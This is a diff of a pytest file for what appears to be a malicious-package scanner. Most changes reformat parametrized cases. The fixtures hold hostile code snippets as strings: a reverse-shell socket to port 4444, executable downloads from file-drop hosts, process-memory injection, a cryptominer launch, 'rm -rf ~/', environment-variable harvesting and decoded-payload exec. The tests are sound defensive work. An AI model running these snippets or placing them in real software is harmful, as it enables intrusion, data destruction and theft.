@@ -275,7 +275,11 @@ def test_shipped_ruleset_is_valid():
         ),
         ("pkg/dl.py", 'urllib.request.urlretrieve(URL, "update.exe")', "mp.exec.download-executable"),
         ("pkg/img.py", "from stegano import lsb\nexec(lsb.reveal('cat.png'))", "mp.exec.steganography"),
-        ("pkg/w.py", "kernel32.WriteProcessMemory(handle, addr, buf, size, None)", "mp.inject.process-memory"),
+        (
+            "pkg/w.py",
+            "kernel32.WriteProcessMemory(handle, addr, buf, size, None)",
+            "mp.inject.process-memory",
+        ),
         (
             "pkg/up.py",
             'URL = "https://cdn.discordapp.com/attachments/112233445566778899/998877665544332211/update.exe"',
@@ -283,7 +287,7 @@ def test_shipped_ruleset_is_valid():
         ),
         (
             "pkg/rs.py",
-            's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)',
+            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)",
             "mp.exec.reverse-shell",
         ),
     ],
@@ -303,7 +307,11 @@ def test_guarddog_family_techniques_block_alone(path, body, rule):
             "subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)",
             "mp.exec.silent-process",
         ),
-        ("index.js", "cp.spawn(bin, args, { detached: true, stdio: 'ignore' }).unref()", "mp.exec.silent-process"),
+        (
+            "index.js",
+            "cp.spawn(bin, args, { detached: true, stdio: 'ignore' }).unref()",
+            "mp.exec.silent-process",
+        ),
         ("pkg/a.py", 'subprocess.run(["rundll32.exe", "payload.dll,Start"])', "mp.inject.lolbas-proxy"),
         ("pkg/a.py", 'URL = "https://files.catbox.moe/abc123.bin"', "mp.beacon.drop-service"),
         ("pkg/a.py", 'URL = "https://update-check.xyz/v1"', "mp.beacon.shady-link"),
@@ -311,11 +319,20 @@ def test_guarddog_family_techniques_block_alone(path, body, rule):
         ("pkg/a.py", "name = ''.join(chr(c) for c in [101, 118, 97, 108])", "mp.obfuscation.py-idioms"),
         ("lib/pkg.rb", "Gem.post_install do |installer|\n  system('id')\nend", "mp.hook.rubygems-install"),
         ("index.js", "const s = JSON.stringify(process['env'])", "mp.creds.serialize-environment"),
-        ("pkg/m.py", 'subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example:3333"])', "mp.process.cryptominer"),
+        (
+            "pkg/m.py",
+            'subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example:3333"])',
+            "mp.process.cryptominer",
+        ),
         ("pkg/w.py", 'os.system("rm -rf ~/")', "mp.destruction"),
         ("index.js", "process['spawn']('node', ['payload.js']);", "mp.exec.js-computed-core-call"),
         ("index.js", r'os["\x68\x6f\x73\x74\x6e\x61\x6d\x65"].call({});', "mp.exec.js-computed-core-call"),
         ("pkg/run.py", "os.system('pythonw deps.pyw')", "mp.exec.pythonw-spawn"),
+        (
+            "pkg/cfg.py",
+            "BLOB = base64.b64decode(BLOB)\nif ready:\n    exec(BLOB)",
+            "mp.exec.decoded-variable",
+        ),
     ],
 )
 def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
@@ -337,13 +354,17 @@ def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
         ("pkg/c.py", 'shutil.rmtree(os.path.expanduser("~/.cache/demo"))'),
         ("build.sh", "rm -rf /tmp/build-dir"),
         ("index.js", "const env = process['env']; const home = process.env['HOME'];"),
-        ("pkg/client.py", 'r = requests.get(url, headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})'),
+        (
+            "pkg/client.py",
+            'r = requests.get(url, headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})',
+        ),
         ("testing/build.py", 'cmd = f"cl.exe {src} /LD /Fe{name}.dll"'),
         ("setup.py", 'subprocess.run(["make", "-C", "src"], check=True)'),
         ("pkg/http.py", "def fetch(url):\n    return requests.get(url, timeout=10).json()"),
         ("README.md", "Install with: curl -fsSL https://get.example.org/install.sh | sh"),
         ("pkg/a.py", 'INVITE = "https://discord.gg/abcdef"  # community chat'),
         ("tools/launch.py", 'subprocess.run(["python", "-m", "pkg.gui"])'),
+        ("pkg/auth.py", "user = b64decode(header).decode()\nresult = evaluate(user)\nreturn eval_ok"),
     ],
 )
 def test_lookalikes_of_guarddog_families_stay_below_the_vote(path, body):
